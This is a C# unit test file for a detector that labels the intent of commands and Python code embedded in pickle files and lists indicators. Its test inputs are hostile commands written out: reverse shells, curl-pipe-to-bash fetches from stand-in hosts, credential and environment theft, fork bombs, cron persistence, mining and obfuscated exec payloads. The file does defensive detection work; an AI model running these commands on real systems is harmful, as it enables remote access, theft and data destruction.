// What payloads are for, and what they name.
using Assay.Artifacts;
using Assay.Detection.Intents;
using Assay.Tests.Builders;
using Assay.Tests.Evaluation;

namespace Assay.Tests.Detection.Intents;

public sealed class IntentTests
{
    [Theory]
    [InlineData("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse-shell")]
    [InlineData("nc -e /bin/sh 10.0.0.1 4444", "reverse-shell")]
    [InlineData("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 9001 > /tmp/f", "reverse-shell")]
    [InlineData("curl -s http://evil.invalid/x.sh | bash", "download-and-run")]
    [InlineData("wget http://evil.invalid/x -O /tmp/x && chmod +x /tmp/x && /tmp/x", "download-and-run")]
    [InlineData("cat ~/.aws/credentials", "credential-theft")]
    [InlineData("cat /etc/shadow", "credential-theft")]
    [InlineData("env | curl -d @- http://evil.invalid", "environment-theft")]
    [InlineData("rm -rf /home", "file-tampering")]
    [InlineData("echo 'x' >> ~/.bashrc", "persistence")]
    [InlineData("(crontab -l; echo '* * * * * x') | crontab -", "persistence")]
    [InlineData("./xmrig -o stratum+tcp://pool.invalid:3333", "crypto-mining")]
    [InlineData("curl http://abc.oastify.com", "beacon")]
    [InlineData("ping -c 1 evil.invalid", "beacon")]
    [InlineData(":(){ :|:& };:", "denial-of-service")]
    [InlineData("id", "proof-of-concept")]
    [InlineData("whoami; hostname", "proof-of-concept")]
    [InlineData("touch /tmp/pwned", "proof-of-concept")]
    [InlineData("calc.exe", "proof-of-concept")]
    [InlineData("echo 'huntr bug bounty'", "research-lure")]
    [InlineData("ls", "command-execution")]
    public void CommandHasIntent(string command, string intent) => Assert.Contains(intent, Intents(Call("os", "system", command)).Select(i => i.Intent));

    [Theory]
    [InlineData("import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')", "reverse-shell")]
    [InlineData("import urllib.request as u; exec(u.urlopen('http://evil.invalid').read())", "download-and-run")]
    [InlineData("import os,requests; requests.post('http://evil.invalid', json=dict(os.environ))", "environment-theft")]
    [InlineData("import shutil; shutil.rmtree('/x')", "file-tampering")]
    [InlineData("__import__('os').system('x')", "command-execution")]
    [InlineData("import ctypes; ctypes.CDLL('./x.so')", "native-load")]
    [InlineData("import atexit; atexit.register(f)", "deferred-execution")]
    [InlineData("import picklescan.scanner as s; s._unsafe_globals.clear()", "scanner-tampering")]
    [InlineData("import time; time.sleep(10**9)", "denial-of-service")]
    [InlineData("print('you have been pwned')", "proof-of-concept")]
    [InlineData("open('/root/.bashrc', 'a').write('x')", "persistence")]
    [InlineData("import os\nwhile True: os.fork()", "denial-of-service")]
    [InlineData("import subprocess; subprocess.Popen(['./xmrig', '-o', 'pool.invalid'])", "crypto-mining")]
    [InlineData("import socket; socket.gethostbyname('abc.dnslog.cn')", "beacon")]
    [InlineData("import urllib.request as u; open('x', 'wb').write(u.urlopen('http://evil.invalid').read())", "download-and-run")]
    [InlineData("data = open('/home/u/.aws/credentials').read()", "credential-theft")]
    [InlineData("# sent for a bug bounty on huntr", "research-lure")]
    [InlineData("import base64; exec(base64.b64decode('aW1wb3J0IHNodXRpbDsgc2h1dGlsLnJtdHJlZSgnL3gnKQ=='))", "file-tampering")]
    [InlineData("exec(''.join(chr(ord(c) ^ 1) for c in '^^hlqnsu^^)&nr&(/rxrudl)&y&('))", "command-execution")]
    [InlineData("import webbrowser; webbrowser.open('https://example.invalid')", "proof-of-concept")]
    public void SourceHasIntent(string source, string intent) => Assert.Contains(intent, Intents(Call("builtins", "exec", source)).Select(i => i.Intent));

    [Theory]
    [InlineData("builtins", "print", "proof-of-concept")]
    [InlineData("ctypes", "CDLL", "native-load")]
    [InlineData("shutil", "rmtree", "file-tampering")]
    [InlineData("time", "sleep", "denial-of-service")]
    [InlineData("os", "getenv", "environment-theft")]
    [InlineData("fickling.hook", "run_hook", "scanner-tampering")]
    [InlineData("saferpickle", "disable", "scanner-tampering")]
    [InlineData("smtplib", "SMTP", "beacon")]
    [InlineData("atexit", "register", "deferred-execution")]
    [InlineData("weakref", "finalize", "deferred-execution")]
    [InlineData("pathlib", "PosixPath.write_text", "file-tampering")]
    [InlineData("logging", "FileHandler", "file-tampering")]
    [InlineData("os", "abort", "denial-of-service")]
    [InlineData("subprocess", "Popen", "command-execution")]
    public void CallHasIntent(string module, string name, string intent) => Assert.Contains(intent, Intents(Call(module, name, "x")).Select(i => i.Intent));

    [Theory]
    [InlineData("curl http://evil.invalid/x")]
    [InlineData("wget -q http://evil.invalid/x -O /tmp/x")]
    public void WhatIsOnlyFetchedIsNotRun(string command) =>
        Assert.DoesNotContain(Intents(Call("os", "system", command)), i => i is { Intent: "download-and-run", Confidence: IntentConfidence.High });

    [Theory]
    [InlineData("curl http://evil.invalid/x|sh")]
    [InlineData("bash -c 'curl -s http://evil.invalid/x | bash'")]
    [InlineData("python3 -c \"import os; os.popen('wget -qO- http://evil.invalid/x | sh')\"")]
    public void WhatIsFetchedAndPipedIsRun(string command) =>
        Assert.Contains(Intents(Call("os", "system", command)), i => i is { Intent: "download-and-run", Confidence: IntentConfidence.High });

    [Theory]
    [InlineData("id")]
    [InlineData("echo hello")]
    [InlineData("ls")]
    public void HarmlessCommandHasNoHarmfulIntent(string command) =>
        Assert.DoesNotContain(Intents(Call("os", "system", command)), i => i.Intent is not ("command-execution" or "proof-of-concept"));

    [Fact]
    public void OrdinaryPickleHasNoIntent() =>
        Assert.Empty(Intents(PickleBuilder.Protocol(4).Call("collections", "OrderedDict", p => p.List()).Stop().ToArray()));

    [Fact]
    public void ProofOfConceptBesideHarmIsDoubted()
    {
        List<IntentFact> intents = Intents(Call("os", "system", "whoami > /tmp/pwned; curl http://evil.invalid/x | sh"));
        Assert.Contains(intents, i => i is { Intent: "proof-of-concept", Confidence: IntentConfidence.Low });
        Assert.Contains(intents, i => i is { Intent: "download-and-run", Confidence: IntentConfidence.High });
    }

    [Theory]
    [InlineData("curl http://evil.invalid:8080/a?b", "url", "http://evil.invalid:8080/a?b")]
    [InlineData("curl http://evil.invalid:8080/a?b", "host", "evil.invalid")]
    [InlineData("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "ip", "10.0.0.1")]
    [InlineData("ping 192.0.2.7", "ip", "192.0.2.7")]
    [InlineData("cat /etc/passwd", "path", "/etc/passwd")]
    [InlineData("cat /etc/passwd", "command", "cat /etc/passwd")]
    [InlineData("echo d41d8cd98f00b204e9800998ecf8427e", "hash", "d41d8cd98f00b204e9800998ecf8427e")]
    public void IndicatorIsListed(string command, string kind, string value) =>
        Assert.Contains(Folded.Read(Call("os", "system", command)).Facts.OfType<IndicatorFact>(), i => i.Kind == kind && i.Value == value);

    [Theory]
    [InlineData("echo 300.1.1.1", "ip")]
    [InlineData("echo 1.2.3", "ip")]
    [InlineData("echo 0123456789012345678901234567890", "hash")]
    public void NoIndicatorWhereThereIsNone(string command, string kind) =>
        Assert.DoesNotContain(Folded.Read(Call("os", "system", command)).Facts.OfType<IndicatorFact>(), i => i.Kind == kind);

    private static byte[] Call(string module, string name, string argument) =>
        PickleBuilder.Protocol(4).Call(module, name, p => p.Str(argument)).Stop().ToArray();

    private static List<IntentFact> Intents(byte[] pickle) => [.. Folded.Read(pickle).Intents()];
}
